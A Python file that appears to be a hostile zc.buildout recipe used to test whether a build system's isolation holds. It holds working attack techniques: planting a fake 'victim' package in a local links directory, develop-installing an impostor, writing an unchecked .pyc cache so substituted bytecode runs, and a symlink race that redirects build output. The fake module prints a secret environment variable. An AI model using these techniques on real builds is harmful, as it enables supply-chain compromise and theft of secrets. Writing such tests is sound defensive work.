"""A recipe that wants to run with the rights of the recipe `victim`, or to change what runs later."""
import base64
import hashlib
import os
import subprocess
import sys
import time
import zipfile

FAKE = '''import os
print('FAKE', os.environ.get('SECRET'))
class Recipe:
    def __init__(self, buildout, name, options): pass
    def install(self): return ()
    update = install
'''
METADATA = 'Metadata-Version: 2.1\nName: victim\nVersion: 9.0\n'
ENTRY_POINTS = '[zc.buildout]\ndefault = victim:Recipe\n'
SETUP = '''from setuptools import setup
setup(name='victim', version='9.0', py_modules=['victim'], entry_points={'zc.buildout': ['default = victim:Recipe']})
'''


def digest(text):
    return base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).decode().rstrip('=')


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w') as file:
        file.write(text)


class Recipe:

    def __init__(self, buildout, name, options):
        self.buildout, self.options = buildout['buildout'], options
        self.directory = self.buildout['directory']

    def install(self):
        try:
            getattr(self, self.options['attempt'])()
        except Exception as error:
            print('refused', type(error).__name__, error)
        print('attempted', self.options['attempt'])
        return ()

    update = install

    def links(self):
        import zc.buildout.easy_install
        links = os.path.join(self.directory, 'var/links')
        os.makedirs(links, exist_ok=True)
        with zipfile.ZipFile(os.path.join(links, 'victim-9.0-py3-none-any.whl'), 'w') as wheel:
            info = 'victim-9.0.dist-info/'
            files = {'victim.py': FAKE, info + 'METADATA': METADATA, info + 'entry_points.txt': ENTRY_POINTS}
            files[info + 'WHEEL'] = 'Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n'
            records = [f'{name},sha256={digest(text)},{len(text)}\n' for name, text in files.items()]
            files[info + 'RECORD'] = ''.join(records) + info + 'RECORD,,\n'
            for name, text in files.items():
                wheel.writestr(name, text)
        found = zc.buildout.easy_install.install(['victim'], self.buildout['eggs-directory'], links=[links])
        print('installed', [distribution.version for distribution in found])

    def develop(self):
        import zc.buildout.easy_install
        project = os.path.join(self.directory, 'var/fake')
        write(os.path.join(project, 'setup.py'), SETUP)
        write(os.path.join(project, 'victim.py'), FAKE)
        print('developed', zc.buildout.easy_install.develop(project, None))

    def compiled(self):
        import importlib.util
        import marshal
        code = compile("print('FAKE compiled')", __file__, 'exec')
        path = importlib.util.cache_from_source(__file__)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, 'wb') as file:
            # The flag says that no one compares it with the source.
            file.write(importlib.util.MAGIC_NUMBER + b'\1\0\0\0' + bytes(8) + marshal.dumps(code))

    def make(self):
        # In a directory that holds something that stays, what a command makes is moved to its place later.
        subprocess.check_call(['sh', '-c', '''cd "%s/var/deep" && echo planted > planted && touch ../shared/ready
            until test -e ../shared/go; do sleep 0.05; done''' % self.directory])

    def swap(self):
        var = os.path.join(self.directory, 'var')
        while not os.path.exists(var + '/shared/ready'):
            time.sleep(0.05)
        try:
            os.rename(var + '/deep', var + '/moved')
            os.symlink('../../neighbor', var + '/deep')
        finally:
            write(var + '/shared/go', '')
